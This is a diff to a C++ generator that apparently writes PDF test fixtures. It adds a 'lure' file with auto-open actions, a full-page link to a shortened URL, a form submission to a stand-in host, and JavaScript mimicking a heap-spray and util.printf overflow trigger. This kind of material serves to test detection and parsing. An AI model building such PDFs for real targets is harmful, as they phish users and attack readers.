@@ -91,5 +91,17 @@ int main(int argc, char** argv) {
   PdfSpec small;
   small.objects = {{"<< /Type /Catalog >>"}, {"<< /Filter /ASCIIHexDecode >>", "6576616c28", true, false}};
   write(p + "/small", build_pdf(small));
+  // Shape: a full-page link whose URI action sits in an object stream, the catalog opening with it, a content stream.
+  PdfSpec lure;
+  lure.objects = {{"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"},
+                  {"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612.5 792] >>"},
+                  {"<< /Type /Page /Parent 2 0 R /Annots [7 0 R] /Contents 4 0 R /AA << /O 6 0 R /K 6 0 R >> >>"},
+                  {"<< >>", "BT (a) Tj [(b) 2 (c)] TJ ET q /Im0 Do Q", true, true},
+                  {"<< /Type /ObjStm /N 2 /First 9 >>",
+                   "6 0 7 50 << /S /URI /URI (https://bit.ly/x) >>                 "
+                   "<< /Subtype /Link /Rect [0 0 612 792.0] /A 6 0 R >>", true, true},
+                  {"<< /S /SubmitForm /F << /FS /URL /F (https://e.invalid/p) >> >>"},
+                  {"<< /S /JavaScript /JS (var a='%u4141%u4141'; util.printf\('%45000f'\); app.setTimeOut\('x',1\)) >>"}};
+  write(p + "/shape", build_pdf(lure));
   return 0;
 }
